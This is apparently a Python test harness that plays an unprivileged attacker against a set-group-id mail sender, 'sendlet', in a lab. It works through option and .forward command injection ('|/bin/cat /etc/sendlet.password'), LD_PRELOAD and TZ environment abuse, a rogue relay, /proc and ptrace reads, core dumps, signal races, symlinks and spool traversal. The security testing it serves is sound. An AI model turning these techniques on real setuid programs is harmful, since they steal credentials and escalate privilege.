# SPDX-License-Identifier: ISC
"""What an ordinary user can try against a set-group-id sendlet.

    thief.py ATTEMPT...

prints all that each ATTEMPT yields: output of sendlet, memory, files.  The
caller looks for the secret in it.  A line "FAILED: ..." tells that something
was possible that must not be; "tried ..." what was done, so that an attempt
that never took place is noticed.  thief.sh sets up the machine.
"""
import array
import ctypes
import errno
import glob
import os
import resource
import signal
import socket
import string
import subprocess
import sys
import time

PROGRAM, HOME, VAULT = "/mnt/sendlet", "/mnt/home", "/mnt/vault"
TARGET = ["-f", "thief@example.org", "pat@example.net"]
MESSAGE = b"From: thief@example.org\nTo: pat@example.net\nSubject: x\n\nHello\n"
LIBC = ctypes.CDLL(None, use_errno=True)
GROUP = 990
LOCKS = 10  # RLIMIT_LOCKS, which Python does not know


def tried(*what):
    print("tried", *what, flush=True)


def failed(*what):
    print("FAILED:", *what, flush=True)


def run(arguments, text=MESSAGE, env=None, program=PROGRAM, argv0="sendmail", **more):
    """Runs it and prints all it says; returns the exit status."""
    try:
        done = subprocess.run([argv0, *arguments], executable=program, input=text, env=env or {},
                              stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=20, **more)
    except (OSError, subprocess.SubprocessError) as error:
        tried(*arguments, "->", error)
        return None
    tried(*arguments, "->", done.returncode)
    print(done.stdout.decode("latin-1"), flush=True)
    return done.returncode


def refuses(path, flags=os.O_RDONLY):
    """True, and told, when it cannot be opened like that."""
    try:
        os.close(os.open(path, flags))
        return False
    except OSError as error:
        tried("open", path, flags, error.strerror)
        return True


def execute(words, variables, prepare=lambda: None):
    """execve(2) with just these octets, which Python would not let through."""
    child = os.fork()
    if child == 0:
        prepare()
        lists = [(ctypes.c_char_p * (len(each) + 1))(*each, None) for each in (words, variables)]
        LIBC.execve(PROGRAM.encode(), *lists)
        os._exit(99)
    return os.waitpid(child, 0)[1]


class Waiting:
    """A sendlet that has its secret and waits for the message."""

    def __init__(self, *arguments, program=PROGRAM, **more):
        self.process = subprocess.Popen(["sendmail", *(arguments or TARGET)], executable=program, env={},
                                        stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                        stderr=subprocess.STDOUT, **more)
        self.pid = self.process.pid
        self.settled()

    def settled(self):
        """Until it sleeps in read(2), with the group given up."""
        for _ in range(400):
            with open(f"/proc/{self.pid}/status", encoding="latin-1") as file:
                status = dict(line.rstrip("\n").split(":\t", 1) for line in file if ":\t" in line)
            if status["State"].startswith("S") and str(GROUP) not in status["Gid"].split():
                self.status = status
                return
            if status["State"].startswith("Z"):
                break
            time.sleep(0.01)
        failed("it does not wait for the message without its group:", status)

    def end(self):
        self.process.kill()
        print(self.process.communicate()[0].decode("latin-1"))

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.end()


def files():
    """Simply reading."""
    for path in ("/etc/sendlet.conf", "/etc/sendlet.password", VAULT + "/file", VAULT,
                 "/var/spool/sendlet", "/var/spool/sendlet/4001"):
        try:
            with open(path, "rb") as file:
                print(file.read())
        except OSError as error:
            tried("open", path, error.strerror)
        try:
            print(os.listdir(path))
        except OSError as error:
            tried("list", path, error.strerror)


def flags():
    """Each option there is, with whatever may be read or written as value."""
    values = ["/etc/sendlet.password", "/etc/sendlet.conf", VAULT + "/new", VAULT + "/file", HOME + "/own.conf"]
    with open(HOME + "/own.conf", "w", encoding="ascii") as file:
        file.write("relay smtp+notls://127.0.0.1:1\nuser a\npassword file:/etc/sendlet.password\nlog stderr\n")
    for letter in string.ascii_letters:
        for value in values:
            run([f"-{letter}{value}", "-v", *TARGET])
        run([f"-{letter}", values[0], *TARGET], MESSAGE)
    for option in ("config", "check", "dry-run", "import", "help", "version", "delete", "hold", "release"):
        for value in values:
            run([f"--{option}", value, *TARGET])
            run([f"--{option}={value}", *TARGET])
    for option in ("-be", "-bt", "-bd", "-bD", "-bp", "-bv", "-bi", "-bs", "-d99.100", "-d0", "-q", "-qf",
                   "-qRa", "-OLogLevel=99", "-OQueueDirectory=" + VAULT, "-OAliasFile=" + values[0],
                   "-oA" + values[0], "-oQ" + VAULT, "-oC" + values[0], "-v", "-vvv"):
        run([option, *TARGET])
        run([option], b"EHLO x\nMAIL FROM:<a@b.example>\nRCPT TO:<c@d.example>\nDATA\nSubject: x\n\nx\n.\nQUIT\n")


def recipients():
    """Addresses that are files, programs or lists to others."""
    with open(HOME + "/.forward", "w", encoding="ascii") as file:
        file.write('"|/bin/cat /etc/sendlet.password >/mnt/home/stolen"\n:include:/etc/sendlet.password\n')
    for address in (VAULT + "/new", VAULT + "/file", "./new", "|/bin/cat /etc/sendlet.password", '"|/bin/id"',
                    ":include:/etc/sendlet.password", '":include:/etc/sendlet.password"', "@/etc/sendlet.password",
                    "<@a,@b:/etc/sendlet.password>", "a@/etc/sendlet.password", "!cat", "a@b!/bin/sh", "thief"):
        run(["-f", "thief@example.org", "--", address], env={"HOME": HOME})
        run(["-f", address, "refused@example.net"], env={"HOME": HOME})
        run(["-t"], b"From: thief@example.org\nTo: " + address.encode() + b"\nBcc: " + address.encode()
            + b"\n\nx\n", env={"HOME": HOME})
        run(["-v", "-bv", "--", address], env={"HOME": HOME})
    if os.path.exists(HOME + "/stolen"):
        failed(".forward was obeyed")


def dialogue():
    """-v, -bs and -bv while the login succeeds and while it fails."""
    run(["-v", *TARGET])
    run(["-v", "-bv", "pat@example.net"])
    run(["-v", "-bs"], b"EHLO x\r\nMAIL FROM:<a@b.example>\r\nRCPT TO:<c@d.example>\r\nDATA\r\nx: y\r\n\r\nx\r\n.\r\n")


def checking():
    """--check tells much; of the secret, and of the mail of others, nothing."""
    if run(["--check", "pat@example.net"]) != 0:
        failed("the check does not work")
    for more in (["--json"], ["-v"], ["--send"], ["--json", "-f", "a@b.example"]):
        run(["--check", *more, "pat@example.net"], env={"SENDLET_SPOOL": "/var/spool/sendlet/4001"})
    run(["-f", "thief@example.org", "later@example.net"])
    run(["--check", "refused@example.net"])
    for more in ([], ["--json"]):
        run(["--stats", *more], env={"SENDLET_SPOOL": "/var/spool/sendlet/4001"})


def environment():
    """Variables that lead libraries, shells and sendlet astray."""
    os.makedirs(HOME + "/.config", exist_ok=True)
    for path in (HOME + "/.config/sendlet.conf", HOME + "/sendlet.conf"):
        with open(path, "w", encoding="ascii") as file:
            file.write(f"relay smtp+notls://127.0.0.1:{os.environ['EVIL_PORT']}\nuser a\nauth-without-tls yes\n"
                       "password file:/etc/sendlet.password\n")
        os.chmod(path, 0o600)
    own = {"SENDLET_RELAY": f"smtp+notls://127.0.0.1:{os.environ['EVIL_PORT']}", "SENDLET_AUTH": "PLAIN",
           "SENDLET_AUTH_WITHOUT_TLS": "yes", "SENDLET_CA_FILE": "/etc/sendlet.password",
           "SENDLET_ALIASES": "/etc/sendlet.password", "SENDLET_USER": "x",
           "SENDLET_LOG": "stderr", "SENDLET_TLS_CERT": "/etc/sendlet.password",
           "SENDLET_TLS_KEY": "/etc/sendlet.password", "SENDLET_DEAD_LETTER": VAULT + "/new",
           "SENDLET_SPOOL": VAULT, "SENDLET_PASSWORD": "command:/bin/cat /etc/sendlet.password",
           "HOME": HOME, "XDG_CONFIG_HOME": HOME, "XDG_STATE_HOME": VAULT, "CREDENTIALS_DIRECTORY": "/etc",
           "TMPDIR": VAULT, "PATH": HOME, "IFS": "/", "ENV": HOME + "/x", "BASH_ENV": HOME + "/x",
           "LD_PRELOAD": HOME + "/x.so", "LD_LIBRARY_PATH": HOME, "LD_AUDIT": HOME + "/x.so",
           "LD_DEBUG": "all", "LD_DEBUG_OUTPUT": VAULT + "/new", "GCONV_PATH": HOME, "LOCPATH": HOME,
           "MALLOC_TRACE": VAULT + "/new", "NLSPATH": "/etc/sendlet.password", "RES_OPTIONS": "debug",
           "HOSTALIASES": "/etc/sendlet.password", "RESOLV_HOST_CONF": "/etc/sendlet.password",
           "TZ": ":/etc/sendlet.password", "TZDIR": "/etc", "SSL_CERT_FILE": "/etc/sendlet.password",
           "SSLKEYLOGFILE": VAULT + "/new", "HTTPS_PROXY": "http://127.0.0.1:1", "ALL_PROXY": "socks://x",
           "NAME": "x\nBcc: evil@example.net", "GMON_OUT_PREFIX": VAULT + "/new", "NOTIFY_SOCKET": "/x"}
    for name, value in own.items():
        run(["-v", *TARGET], env={name: value})
    for keyword in os.environ["KEYWORDS"].split():
        for value in ("/etc/sendlet.password", "off", "no", "-1", f"smtp+notls://127.0.0.1:{os.environ['EVIL_PORT']}"):
            run(TARGET, env={"SENDLET_" + keyword.upper().replace("-", "_"): value})
    run(["-v", *TARGET], env=own)
    for zone in ("/etc/sendlet.password", "../../../etc/sendlet.password", ":sendlet.password", "x" * 5000):
        run(["-v", *TARGET], b"To: pat@example.net\n\nno date\n", env={"TZ": zone, "TZDIR": "/etc"})
    run(["-v", *TARGET], env={"A" * 100000: "B" * 1000})
    # What is no variable, and what is one twice.
    evil = b"SENDLET_RELAY=smtp+notls://127.0.0.1:" + os.environ["EVIL_PORT"].encode()
    for variables in ([evil, evil], [b"", b"=", b"=x", evil, b"SENDLET_RELAY"], [b"TZ=UTC", b"TZ=/etc/sendlet.password"],
                      [b"TZ=/etc/sendlet.password", b"TZ=UTC"], [b"TZ"], [b"TZ=UTC\nx"], [b"\xff\xfe=\xff"]):
        tried(variables, "->", execute([b"sendmail", b"-v", *(word.encode() for word in TARGET)], variables))


def verification():
    """Making it believe a relay whose authority the administrator does not know."""
    for name in ("CA_FILE", "TLS_PIN", "TLS_MIN", "RELAY", "PROXY", "FAMILY", "SOURCE", "INTERFACE", "SANDBOX"):
        for value in ("/mnt/relay.pem", "off", "no", os.environ["PIN"], "smtp://127.0.0.1:" + os.environ["EVIL_PORT"]):
            run(["-v", *TARGET], env={"SENDLET_" + name: value, "SSL_CERT_FILE": "/mnt/relay.pem",
                                      "SSL_CERT_DIR": "/mnt"})
    with open(HOME + "/own.conf", "w", encoding="ascii") as file:
        file.write(f"relay smtp+tls://127.0.0.1:{os.environ['EVIL_PORT']}\nca-file /mnt/relay.pem\n")
    for words in (["--config", HOME + "/own.conf"], ["-C" + HOME + "/own.conf"], ["-O", "CACertFile=/mnt/relay.pem"]):
        run([*words, "-v", *TARGET])


def early():
    """What was opened of a process before it became sendlet, read afterwards."""
    names = ("mem", "maps", "smaps", "environ", "auxv", "syscall", "stack", "pagemap", "io", "cwd", "root", "exe")
    ready, go = os.pipe()
    child = os.fork()
    if child == 0:
        os.close(go)
        os.read(ready, 1)
        os.execve(PROGRAM, ["sendmail", *TARGET], {})
    held = {}
    for name in names:
        try:
            held[name] = os.open(f"/proc/{child}/{name}", os.O_RDONLY)
        except OSError as error:
            tried("early", name, error.strerror)
    open_files = os.open(f"/proc/{child}/fd", os.O_RDONLY | os.O_DIRECTORY)
    os.close(go)
    time.sleep(0.3)
    for name, number in held.items():
        for at in (0, 0x400000, 0x555555554000, 0x7ffff7fc0000):
            try:
                got = os.pread(number, 65536, at)
                print(name, got)
                if name == "mem" and got:
                    failed("read", name, "opened before")
            except OSError as error:
                tried("early", name, at, error.strerror)
    for number in range(8):
        try:
            print(os.readlink(str(number), dir_fd=open_files))
            failed("readlink of a descriptor, by a directory opened before")
        except OSError as error:
            tried("early fd", number, error.strerror)
    for number in (open_files, *held.values()):
        os.close(number)
    os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)


def stopped():
    """The process at any moment of its start, when it has its group."""
    with_group = 0
    for turn in range(150):
        process = subprocess.Popen(["sendmail", *TARGET], executable=PROGRAM, env={}, stdin=subprocess.PIPE,
                                   stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        for _ in range(turn * 20):
            pass
        os.kill(process.pid, signal.SIGSTOP)
        os.waitpid(process.pid, os.WUNTRACED)
        with open(f"/proc/{process.pid}/status", encoding="latin-1") as file:
            groups = next(line for line in file if line.startswith("Gid:")).split()[1:]
        with_group += str(GROUP) in groups
        for name in ("mem", "environ", "maps", "auxv", "syscall"):
            if not refuses(f"/proc/{process.pid}/{name}"):
                failed("read", name, groups)
        try:
            failed("listed", os.listdir(f"/proc/{process.pid}/fd"), groups)
        except OSError as error:
            tried("fd", error.strerror)
        if LIBC.ptrace(0x4206, process.pid, None, None) == 0:
            failed("ptrace", groups)
        if str(GROUP) in groups:
            try:
                resource.prlimit(process.pid, resource.RLIMIT_CORE, (resource.RLIM_INFINITY,) * 2)
                failed("prlimit of a process with the group")
            except OSError as error:
                tried("prlimit", error.strerror)
        process.kill()
        print(process.communicate()[0].decode("latin-1"))
    tried("stopped with the group:", with_group)


def helper():
    """The program of "password command:", which has the group until it ends."""
    found = 0
    for _ in range(3):
        process = subprocess.Popen(["sendmail", *TARGET], executable=PROGRAM, env={}, stdin=subprocess.PIPE,
                                   stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        deadline = time.monotonic() + 10
        child = ""
        while not child and process.poll() is None and time.monotonic() < deadline:
            time.sleep(0.02)
            with open(f"/proc/{process.pid}/task/{process.pid}/children", encoding="ascii") as file:
                child = file.read().strip()
        time.sleep(0.3)
        for name in ("mem", "environ", "maps", "fd/3", "auxv", "syscall"):
            if not refuses(f"/proc/{child}/{name}"):
                failed("read", name)
        if LIBC.ptrace(0x4206, int(child), None, None) == 0:
            failed("ptrace")
        os.kill(int(child), (signal.SIGQUIT, signal.SIGSEGV, signal.SIGTERM)[found])
        found += 1
        print(process.communicate(MESSAGE, timeout=20)[0].decode("latin-1"))
    tried("helpers:", found)
    reading, writing = os.pipe()
    for zone in ("UTC", ":/etc/sendlet.password"):
        run(TARGET, env={"PATH": HOME, "EVIL": "x", "TZ": zone, "LD_PRELOAD": HOME + "/x.so", "PYTHONPATH": HOME,
                         "SENDLET_PASSWORD": "x"}, cwd=HOME, pass_fds=[writing],
            preexec_fn=lambda: os.umask(0))
    for path in glob.glob(HOME + "/core*") + glob.glob("/core*"):
        failed("there is", path)


def proc():
    """Everything in /proc of a process that holds the secret."""
    early()
    with Waiting() as it:
        tried("proc of", it.status["Gid"])
        if it.status["Gid"].split() != ["4002"] * 4:
            failed("groups", it.status["Gid"])
        for name in sorted(os.listdir(f"/proc/{it.pid}")):
            path = f"/proc/{it.pid}/{name}"
            try:
                if os.path.isdir(path) and name not in ("net", "task"):
                    print([(entry, os.readlink(path + "/" + entry)) for entry in os.listdir(path)])
                    failed("read", path)
                    continue
                if os.path.islink(path):
                    print(os.readlink(path))
                with open(path, "rb") as file:
                    print(name, file.read(65536))
                if name in ("mem", "environ", "maps", "smaps", "auxv", "pagemap", "syscall", "stack", "io"):
                    failed("read", path)
            except OSError as error:
                tried(name, error.strerror)
        for name in ("mem", "environ", "maps", "fd/0", "clear_refs", "oom_adj"):
            try:
                os.close(os.open(f"/proc/{it.pid}/{name}", os.O_RDWR))
                failed("open for writing", name)
            except OSError as error:
                tried("write", name, error.strerror)


def own():
    """A copy of one's own, with a configuration of one's own: another program of the user's looks at it."""
    with open(PROGRAM, "rb") as file, open(HOME + "/copy", "wb") as to:
        to.write(file.read())
    os.chmod(HOME + "/copy", 0o755)
    with open(HOME + "/own.conf", "w", encoding="ascii") as file:
        file.write(f"relay smtp+notls://127.0.0.1:1\nuser a\npassword {os.environ['SECRET']}\nlog off\n")
    os.chmod(HOME + "/own.conf", 0o600)
    resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY,) * 2)
    with Waiting("--config", HOME + "/own.conf", *TARGET, program=HOME + "/copy", cwd=HOME) as it:
        for name in ("mem", "environ", "maps", "auxv", "syscall", "stack"):
            if not refuses(f"/proc/{it.pid}/{name}"):
                failed("read", name)
        if LIBC.ptrace(0x4206, it.pid, None, None) == 0:
            failed("ptrace")
        os.kill(it.pid, signal.SIGSEGV)
        tried("own", it.process.wait(10))


def tracing():
    """ptrace and its relatives, on a process that runs and from its start."""
    libc = LIBC
    with Waiting() as it:
        attach, seize = 16, 0x4206
        for request in (attach, seize):
            if libc.ptrace(request, it.pid, None, None) == 0:
                failed("ptrace", request)
            tried("ptrace", request, errno.errorcode[ctypes.get_errno()])
        buffer = ctypes.create_string_buffer(4096)
        local = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 4096)
        for address in (0x400000, 0x555555554000, 0x7fffffffe000):
            remote = (ctypes.c_void_p * 2)(address, 4096)
            if libc.process_vm_readv(it.pid, local, 1, remote, 1, 0) >= 0:
                failed("process_vm_readv")
            code = ctypes.get_errno()
            tried("process_vm_readv", errno.errorcode[code])
            if code not in (errno.EPERM, errno.ENOSYS):
                failed("process_vm_readv gave", code)
        pidfd = libc.syscall(434, it.pid, 0)
        for number in range(8):
            got = libc.syscall(438, pidfd, number, 0)
            tried("pidfd_getfd", number, got)
            if got >= 0:
                failed("pidfd_getfd", number)
    for program in (["strace", "-f", "-s", "4096", PROGRAM, *TARGET],
                    ["gdb", "-batch", "-nx", "-ex", "run", "-ex", "info registers", "--args", PROGRAM, *TARGET]):
        done = subprocess.run(program, input=MESSAGE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                              env={"PATH": "/usr/bin:/bin", "HOME": HOME}, timeout=60, check=False)
        tried(*program)
        print(done.stdout.decode("latin-1"))
        # In the words of strace and of gdb.
        if b"exited with 0 " in done.stdout or b"exited normally" in done.stdout:
            failed("it sent, traced, with the secret")


def core():
    """Core files, in each way to get one."""
    resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY,) * 2)
    for number in (signal.SIGQUIT, signal.SIGILL, signal.SIGABRT, signal.SIGSEGV, signal.SIGBUS, signal.SIGFPE,
                   signal.SIGSYS, signal.SIGTRAP, signal.SIGXCPU):
        with Waiting(cwd=HOME) as it:
            os.kill(it.pid, number)
            tried("signal", number, it.process.wait(10))
            if os.WCOREDUMP(it.process.returncode & 0xff if it.process.returncode > 0 else 0):
                failed("core", number)
    with Waiting(cwd=HOME) as it:
        try:
            tried("prlimit", resource.prlimit(it.pid, resource.RLIMIT_CORE, (resource.RLIM_INFINITY,) * 2))
        except OSError as error:
            tried("prlimit", error.strerror)
        os.kill(it.pid, signal.SIGSEGV)
        tried("signal", it.process.wait(10), os.listdir(HOME))
    with Waiting() as it:
        done = subprocess.run(["gcore", "-o", HOME + "/core", str(it.pid)], stdout=subprocess.PIPE, check=False,
                              stderr=subprocess.STDOUT, env={"PATH": "/usr/bin:/bin", "HOME": HOME})
        tried("gcore", done.returncode)
        if done.returncode == 0:
            failed("gcore")
    for path in glob.glob(HOME + "/core*") + glob.glob("/core*"):
        failed("there is", path)


def signals():
    """Each signal at each of some moments of a run."""
    for number in range(1, 65):
        if number in (32, 33):
            continue
        for delay in (0, 0.001, 0.004):
            process = subprocess.Popen(["sendmail", "-v", *TARGET], executable=PROGRAM, env={},
                                       stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
            time.sleep(delay)
            try:
                os.kill(process.pid, number)
            except OSError as error:
                failed("kill", error)
            os.kill(process.pid, signal.SIGCONT)
            try:
                print(process.communicate(MESSAGE, timeout=20)[0].decode("latin-1"))
            except subprocess.TimeoutExpired:
                process.kill()
                print(process.communicate()[0])
        tried("signal", number)
    # All of them ignored, or blocked, or timers that were started before.
    every = [number for number in range(1, 65) if number not in (signal.SIGKILL, signal.SIGSTOP, 32, 33)]
    for option in ("pat@example.net", "later@example.net", "refused@example.net"):
        run(["-v", "-f", "a@b.example", option],
            preexec_fn=lambda: [signal.signal(number, signal.SIG_IGN) for number in every])
        run(["-v", "-f", "a@b.example", option],
            preexec_fn=lambda: signal.pthread_sigmask(signal.SIG_BLOCK, every))
    for timer in (signal.ITIMER_REAL, signal.ITIMER_VIRTUAL, signal.ITIMER_PROF):
        for after in (0.0005, 0.001, 0.002, 0.005, 0.02):
            run(["-v", *TARGET], preexec_fn=lambda t=timer, a=after: signal.setitimer(t, a, 0.001))


def links():
    """Other names and other ways to start it, and links where it may write."""
    for make in (os.link, os.symlink):
        name = HOME + "/" + make.__name__
        try:
            make(PROGRAM, name)
        except OSError as error:
            tried(make.__name__, error.strerror)
            continue
        run(["-v", *TARGET], program=name)
    for argv0 in ("", "mailq", "newaliases", "/etc/sendlet.password", "-v", "x" * 100000, "a\nb", "\x1b[31m"):
        run(TARGET, argv0=argv0)
    descriptor = os.open(PROGRAM, os.O_RDONLY | os.O_PATH)
    os.set_inheritable(descriptor, True)
    run(TARGET, program=f"/proc/self/fd/{descriptor}", pass_fds=[descriptor])
    # No argv at all, not even a name.
    tried("no argv", execute([], []))
    # As the interpreter of a script, whose first line has the options.
    for option in ("", " -C/etc/sendlet.password", " --config", " --import", " -t", " -bs"):
        with open(HOME + "/script", "w", encoding="ascii") as file:
            file.write(f"#!{PROGRAM}{option}\nrelay smtp+notls://127.0.0.1:1\n")
        os.chmod(HOME + "/script", 0o755)
        run(TARGET, program=HOME + "/script")
    # A copy is not set-group-id; the loader may start what is.
    with open(PROGRAM, "rb") as file, open(HOME + "/copy", "wb") as to:
        to.write(file.read())
    os.chmod(HOME + "/copy", 0o2755)
    if run(["-v", *TARGET], program=HOME + "/copy") == 0:
        failed("a copy has the password")
    for loader in glob.glob("/lib*/ld-linux*.so.*"):
        for words in ([], ["--preload", HOME + "/x.so"], ["--library-path", HOME], ["--list"]):
            run([*words, PROGRAM, "-v", *TARGET], program=loader)
    # A personality that makes addresses easy to guess, and all of it executable.
    run(["-v", *TARGET], preexec_fn=lambda: LIBC.personality(0x0040000 | 0x0400000 | 0x0200000))
    for name in ("dead.letter", "sendlet.conf", ".config"):
        for aim in (VAULT + "/file", VAULT + "/new", "/etc/sendlet.conf"):
            path = HOME + "/" + name
            if os.path.lexists(path):
                os.rename(path, path + str(time.time()))
            os.symlink(aim, path)
            run(["-f", "a@b.example", "refused@example.net"], env={"HOME": HOME, "XDG_CONFIG_HOME": HOME},
                cwd=HOME)


def spool():
    """The mail of others, through our own place in the spool."""
    victim = "01JABCDEFGHJKMNP"
    if run(["-f", "thief@example.org", "later@example.net"]) != 0:
        failed("nothing was spooled")
    run([], argv0="mailq")
    run(["-bp", "-j"])
    for option in ("--delete", "--hold", "--release"):
        for name in (victim, "../4001/" + victim, "4001/" + victim, "../../../../mnt/vault/file", "..", "lock"):
            run([option, name])
    for option in ("-q", "-qf", "-qI" + victim, "-qR@", "-qS@"):
        run([option], env={"SENDLET_SPOOL": "/var/spool/sendlet/4001"})
    for path in ("/var/spool/sendlet/4002", "/var/spool/sendlet/4001", "/var/spool/sendlet/4001/" + victim):
        for call in (os.listdir, os.stat, lambda p: os.rename(p, p + "x"), os.rmdir, os.unlink,
                     lambda p: os.symlink("/etc/sendlet.password", p), lambda p: os.mkdir(p + "x")):
            try:
                print(call(path))
                failed(path)
            except OSError as error:
                tried(path, error.strerror)


def large():
    """A message for which a temporary file is needed, wherever that is."""
    os.umask(0)
    text = MESSAGE + b"x" * 70 + b"\n" + (b"y" * 70 + b"\n") * 20000
    for directory in (VAULT, HOME, "/etc", "relative", "", "/proc/self", "/dev"):
        run(TARGET, text, env={"TMPDIR": directory})
    process = subprocess.Popen(["sendmail", *TARGET], executable=PROGRAM, env={}, stdin=subprocess.PIPE)
    process.stdin.write(text)
    process.stdin.flush()
    time.sleep(0.2)
    tried(os.listdir("/tmp"), os.listdir(HOME))
    process.kill()
    process.wait()


def limits():
    """Every resource limit, from nothing on, with every umask."""
    small = {resource.RLIMIT_NOFILE: range(0, 9), resource.RLIMIT_FSIZE: (0, 1, 100),
             resource.RLIMIT_AS: (0, 1 << 19, 1 << 20, 3 << 19, 1 << 21), resource.RLIMIT_NPROC: (0, 1),
             resource.RLIMIT_STACK: (0, 4096, 65536), resource.RLIMIT_DATA: (0, 4096, 1 << 18),
             resource.RLIMIT_CPU: (0, 1), resource.RLIMIT_MEMLOCK: (0,), resource.RLIMIT_CORE: (0, 1 << 30),
             resource.RLIMIT_NICE: (0,), resource.RLIMIT_SIGPENDING: (0,), resource.RLIMIT_MSGQUEUE: (0,),
             resource.RLIMIT_RSS: (0,), resource.RLIMIT_RTPRIO: (0,), resource.RLIMIT_RTTIME: (0, 1), LOCKS: (0,)}
    for which, sizes in small.items():
        for size in sizes:
            run(["-v", *TARGET], preexec_fn=lambda w=which, s=size: resource.setrlimit(w, (s, s)))
    # Where files are written: the spool, a temporary one, dead.letter.
    text = MESSAGE + (b"y" * 70 + b"\n") * 2000
    for which in (resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE):
        for size in small[which]:
            for to in ("later@example.net", "refused@example.net"):
                run(["-f", "a@b.example", to], text, env={"HOME": HOME}, cwd=HOME,
                    preexec_fn=lambda w=which, s=size: resource.setrlimit(w, (s, s)))
    for mask in (0, 0o777, 0o022):
        for to in ("pat@example.net", "later@example.net", "refused@example.net"):
            run(["-v", "-f", "a@b.example", to], env={"HOME": HOME}, cwd=HOME, preexec_fn=lambda m=mask: os.umask(m))


def descriptors():
    """Standard descriptors closed, others passed on."""
    for closed in ([0], [1], [2], [0, 1], [0, 2], [1, 2], [0, 1, 2]):
        child = os.fork()
        if child == 0:
            for number in closed:
                os.close(number)
            os.execve(PROGRAM, ["sendmail", "-v", *TARGET], {})
        tried("closed", closed, os.waitpid(child, 0)[1])
    reading, writing = os.pipe()
    os.set_inheritable(writing, True)
    with Waiting(pass_fds=[writing]):
        os.close(writing)
        os.set_blocking(reading, False)
        try:
            if os.read(reading, 1) == b"":
                tried("an inherited pipe was closed")
        except BlockingIOError:
            failed("inherited descriptors stay open")
    # Descriptors that stand for what may not be read: no rights come with them.
    for path in ("/etc/sendlet.password", "/etc/sendlet.conf", VAULT, "/var/spool/sendlet", "/proc/self/mem",
                 "/proc/self/environ", HOME, PROGRAM):
        try:
            number = os.open(path, os.O_PATH)
        except OSError as error:
            tried("O_PATH", path, error.strerror)
            continue
        for place in ({"stdin": number}, {"stdout": number}, {"stderr": number}, {"pass_fds": [number]}):
            for words in (TARGET, ["-bs"], ["-bp"], ["--import", f"/proc/self/fd/{place.get('stdin', number)}"]):
                done = subprocess.run(["sendmail", "-v", *words], executable=PROGRAM, env={}, timeout=20, check=False,
                                      **{"stdin": subprocess.DEVNULL, "stdout": subprocess.PIPE,
                                         "stderr": subprocess.PIPE, **place})
                print(path, *place, done.stdout, done.stderr)
        tried("O_PATH", path)
        os.close(number)
    # Does anything it opens ever come to us?  A socket as standard input.
    ours, theirs = socket.socketpair()
    process = subprocess.Popen(["sendmail", *TARGET], executable=PROGRAM, env={}, stdin=theirs, stdout=theirs,
                               stderr=theirs)
    theirs.close()
    ours.sendall(MESSAGE)
    ours.shutdown(socket.SHUT_WR)
    while True:
        room = array.array("i", [0] * 16)
        data, passed, _, _ = ours.recvmsg(65536, socket.CMSG_SPACE(room.itemsize * 16))
        print(data)
        if passed:
            failed("descriptors were passed")
        if not data:
            break
    tried("socket", process.wait(20))


def masquerade():
    """Namespaces of our own, no_new_privs, and being somebody else in them."""
    for words in (["unshare", "-r"], ["unshare", "-r", "-m"], ["unshare", "-r", "-m", "-n", "-p", "-f"],
                  ["setpriv", "--no-new-privs"], ["prlimit", "--nofile=4"], ["nice"],
                  ["timeout", "10"], ["setsid", "-w"]):
        done = subprocess.run([*words, PROGRAM, "-v", *TARGET], input=MESSAGE, stdout=subprocess.PIPE, check=False,
                              stderr=subprocess.STDOUT, env={"PATH": "/usr/sbin:/usr/bin:/sbin:/bin"})
        tried(*words, done.returncode)
        print(done.stdout.decode("latin-1"))
    done = subprocess.run(["unshare", "-r", "-m", "sh", "-c",
                           'cp /etc/hosts h; echo "127.0.0.1 relay.example.com" >>h; mount --bind h /etc/hosts;'
                           f" {PROGRAM} -v a@b.example; cat /etc/sendlet.password"], input=MESSAGE, cwd=HOME,
                          stdout=subprocess.PIPE, stderr=subprocess.STDOUT, check=False)
    tried("another /etc/hosts", done.returncode)
    print(done.stdout.decode("latin-1"))


def main():
    for name in sys.argv[1:]:
        globals()[name]()


main()
